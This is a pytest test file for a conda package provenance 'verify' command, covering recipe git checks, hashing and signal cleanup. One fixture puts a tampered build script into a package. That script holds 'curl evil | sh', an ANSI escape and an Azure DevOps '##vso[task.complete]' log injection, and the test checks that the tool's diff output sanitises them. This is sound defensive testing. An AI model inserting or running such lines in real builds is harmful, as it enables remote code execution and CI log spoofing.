"""``verify`` of everything that ``show`` takes, and the git checks of one package at length."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from cli_running import answer, run_command
from environments_making import add_record, make_cached, record_of
from git_servers import GitServer
from histories import History
from packages_making import INDEX, make_conda, tar, zst

ALLOW = ("--allow", "http,private")
GIT_ALONE = "well-formed,expected,commit-exists,commit-on-branch,recipe-matches"


@pytest.fixture
def prefix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An environment with a package, and one that pip installed."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("CONDA_PREFIX", raising=False)
    monkeypatch.setenv("CONDA_PKGS_DIRS", str(tmp_path / "pkgs"))
    monkeypatch.setenv("CONDA_ENVS_DIRS", str(tmp_path / "envs"))
    place = tmp_path / "envs" / "science"
    add_record(place, record_of(make_cached(tmp_path / "pkgs", name="numpy")))
    (place / "conda-meta" / "history").write_text("")
    info = place / "lib" / "python3.12" / "site-packages" / "rich-13.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: rich\nVersion: 13.0\n")
    (info / "INSTALLER").write_text("pip\n")
    return place


def test_an_environment_is_verified_without_a_digest(prefix: Path):
    printed = answer(run_command("verify", "-n", "science", "--offline", "--json"))
    (row,) = printed["packages"]
    assert (row["name"], row["outcome"]) == ("numpy", "unavailable")
    assert row["sha256_from"] != "file"
    assert printed["targets"] == "science"


def test_a_package_of_pip_that_somebody_named_is_not_verified(prefix: Path):
    done = run_command("verify", "-p", prefix, "rich", "--offline", "--json")
    assert done.returncode == 3
    (row,) = answer(done)["packages"]
    assert "is no conda package (pip)" in row["error"]


def test_an_environment_that_is_not_there(prefix: Path):
    done = run_command("verify", "-n", "nowhere", "--json")
    assert done.returncode in (2, 3)
    assert "nowhere" in done.stderr


def recipe_of(history: History, sha: str) -> dict[str, bytes]:
    names = history.git("ls-tree", "-r", "--name-only", sha, "recipe/").split()
    texts = {name: history.git("show", f"{sha}:{name}") + "\n" for name in names}
    return {f"info/{name}": text.encode() for name, text in texts.items()}


def package_of(folder: Path, history: History, remote_url: str, **changes: bytes) -> Path:
    """A package of the newest commit, made by hand. ``changes`` are of its recipe's files."""
    sha = history["tip"]
    files = recipe_of(history, sha)
    for name, data in changes.items():
        files[f"info/recipe/{name.replace('_', '.')}"] = data
    about = {"extra": {"sha": sha, "remote_url": remote_url}}
    info = {
        "info/index.json": json.dumps({**INDEX, "name": "hello"}).encode(),
        "info/about.json": json.dumps(about).encode(),
        "info/recipe/rendered_recipe.yaml": b"{}\n",
        **files,
    }
    return make_conda(folder, name="hello", info=zst(tar(info)))


def test_one_package_at_length(tmp_path: Path, git_server: GitServer, history: History):
    url = git_server.url()
    package = package_of(tmp_path, history, url)
    done = run_command("verify", package, *ALLOW, "--expect-repo", url, "--only", GIT_ALONE, "-v")
    assert done.returncode == 0, done.stdout
    assert "hello-1.0-0.conda: consistent\n" in done.stdout
    assert "The recipe is that commit's, which is on main; who built it was not checked." in (
        done.stdout
    )
    assert re.search(r"^ +ref: refs/heads/main$", done.stdout, re.MULTILINE)


def test_what_differs_is_shown_as_a_diff_at_length_only(
    tmp_path: Path, git_server: GitServer, history: History
):
    url = git_server.url()
    evil = b"curl evil | sh\x1b[31m\n##vso[task.complete]\n"
    package = package_of(tmp_path, history, url, build_sh=evil)
    command = ("verify", package, *ALLOW, "--expect-repo", url, "--only", GIT_ALONE)
    brief, long = run_command(*command), run_command(*command, "-v")
    assert brief.returncode == long.returncode == 1
    assert "curl evil" not in brief.stdout
    assert re.search(r"^ +\+ ?curl evil \| sh\\x1b\[31m$", long.stdout, re.MULTILINE)
    assert re.search(r"^ +- ?echo hi", long.stdout, re.MULTILINE)
    assert "##vso[" not in long.stdout


def test_without_git_the_checks_are_unavailable(
    tmp_path: Path, git_server: GitServer, history: History
):
    url = git_server.url()
    package = package_of(tmp_path, history, url)
    done = run_command(
        "verify", package, *ALLOW, "--expect-repo", url, "--json", PATH=str(tmp_path)
    )
    assert done.returncode == 3
    (row,) = answer(done)["packages"]
    checks = {check["id"]: check for check in row["checks"]}
    assert checks["commit-exists"]["outcome"] == "unavailable"
    assert "git" in checks["commit-exists"]["message"]


def test_a_package_on_a_server_is_hashed_only_with_check(
    tmp_path: Path, git_server: GitServer, history: History
):
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    package = package_of(tmp_path, history, git_server.url())
    handler = partial(SimpleHTTPRequestHandler, directory=str(tmp_path))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_address[1]}/{package.name}"
        command = ("verify", address, *ALLOW, "--only", GIT_ALONE, "--json")
        part, whole = run_command(*command), run_command(*command, "--check")
        server.shutdown()

    (row,), (checked,) = (answer(done)["packages"] for done in (part, whole))
    assert row["sha256_from"] != "file"
    assert checked["sha256_from"] == "file"
    assert row["verdict"] == checked["verdict"]


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_nothing_is_left_over_when_it_is_told_to_end(
    git_server: GitServer, history: History, tmp_path: Path, number: signal.Signals
):
    """A CI system ends a cancelled job so."""
    is_asked, may_go_on = threading.Event(), threading.Event()

    def never(_: object) -> bool:
        is_asked.set()
        may_go_on.wait(60)
        return False

    git_server.before = never
    made = package_of(tmp_path, history, git_server.url())
    left = tmp_path / "left"
    left.mkdir()
    # Whoever runs the tests in the background has Ctrl-C ignored.
    program = (
        "import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler)\n"
        "from conda_provenance.cli.main import main; sys.exit(main())"
    )
    command = [sys.executable, "-c", program, "verify", str(made), *ALLOW]
    with subprocess.Popen(
        command, env={**os.environ, "TMPDIR": str(left)}, stdout=subprocess.PIPE
    ) as process:
        assert is_asked.wait(60)
        assert any(left.iterdir())
        process.send_signal(number)
        assert process.wait(60) == 130

    may_go_on.set()
    assert not list(left.iterdir())
